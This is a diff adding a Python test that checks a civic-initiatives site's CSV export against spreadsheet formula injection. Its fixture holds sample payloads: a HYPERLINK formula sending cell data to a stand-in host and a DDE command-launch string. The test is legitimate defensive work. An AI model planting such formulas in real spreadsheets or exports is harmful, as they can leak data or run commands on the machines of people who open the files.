@@ -91,6 +91,27 @@ def test_the_csv_flattens_places_and_lists_into_readable_cells(client, content):
     assert speeltuin["url"].endswith("/initiatieven/speeltuin/")
 
 
+def test_the_csv_writes_what_a_spreadsheet_would_run_as_text(client):
+    """Formula injection: a title, summary or theme starting with =, +, - or @ must not become a formula
+    in the spreadsheet of whoever opens the export; the numbers stay numbers."""
+    InitiativeFactory(
+        slug="formule",
+        title='=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+        summary="@SUM(1+1)*cmd|' /C calc'!A0",
+        tags=["+thema"],
+    )
+
+    [row] = csv.DictReader(io.StringIO(client.get(url("initiatieven", "csv")).content.decode("utf-8")))
+
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+    assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["themes"] == "'+thema"
+    assert row["support_count"] == "0"
+    # The JSON is data for programs, not for spreadsheets: it keeps the text as it is.
+    [item] = json.loads(client.get(url("initiatieven", "json")).content)
+    assert item["title"].startswith("=HYPERLINK")
+
+
 @pytest.mark.parametrize("what", list(FIELDS))
 def test_the_json_parses_to_the_serializers_fields_for_each_published_item(client, content, what):
     data = json.loads(client.get(url(what, "json")).content)
